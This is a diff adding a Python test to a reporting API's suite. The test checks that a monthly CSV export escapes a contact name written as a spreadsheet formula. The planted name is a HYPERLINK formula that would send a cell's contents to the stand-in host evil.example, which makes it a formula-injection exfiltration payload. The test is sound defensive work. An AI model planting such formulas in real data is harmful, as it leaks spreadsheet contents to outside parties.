@@ -397,3 +397,28 @@ def test_a_report_month_before_2000_is_refused(
     admin = auth(world.usernames["admin"])
     for month in ("0000-01", "1999-12", "2026-13"):
         assert refused(client, admin, "/reports/monthly", month=month) == ["month"]
+
+
+def test_the_csv_report_cannot_run_a_contacts_formula(
+    client: TestClient, auth: Auth, world: World, seeded: Seeded, pool: ConnectionPool
+) -> None:
+    """A contact's name is typed by people: one named like a formula reaches the bureau's
+    spreadsheet as text, and the numbers dialled stay readable."""
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'
+    with pool.connection() as conn:
+        conn.execute("UPDATE contacts SET name = %s WHERE phone = %s", (attack, WORKER_PHONE))
+    try:
+        month = seeded.now.astimezone(SHANGHAI).strftime("%Y-%m")
+        response = client.get(
+            "/api/v1/reports/monthly",
+            headers=auth(world.usernames["admin"]),
+            params={"month": month, "format": "csv"},
+        )
+    finally:
+        with pool.connection() as conn:
+            conn.execute("UPDATE contacts SET name = '刘网格员' WHERE phone = %s", (WORKER_PHONE,))
+    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + attack in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "tel:+1-415-555-0101" in cells  # WORKER_PHONE, as the admin sees it
